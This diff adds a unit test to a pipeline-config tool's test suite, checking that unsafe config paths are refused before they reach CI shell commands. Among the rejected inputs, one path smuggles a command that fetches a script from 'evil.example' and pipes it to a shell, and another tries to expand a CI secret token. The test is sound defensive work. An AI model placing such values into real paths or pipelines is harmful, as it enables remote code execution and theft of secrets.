@@ -265,6 +265,14 @@ describe("a config not ready for a pipeline", () => {
     );
   });
 
+  it("refuses a config path that would run in the jobs' shell commands, and takes a plain one", () => {
+    const config = validateConfig(pipelineConfigInput(1));
+    expect(pipelinePlanOf(config, "config/landing-zone.prod.yaml").configPath).toBe("config/landing-zone.prod.yaml");
+    for (const path of ["my lz.yaml", "lz$(curl evil.example|sh).yaml", "lz-${{ secrets.TOKEN }}.yaml", "--help"]) {
+      expect(() => pipelinePlanOf(config, path)).toThrow(`--config: ${JSON.stringify(path)} cannot be written into the pipeline's shell commands`);
+    }
+  });
+
   it("refuses one identity for two roles, and a malformed provider", () => {
     expect(
       problemsOf((c) => {
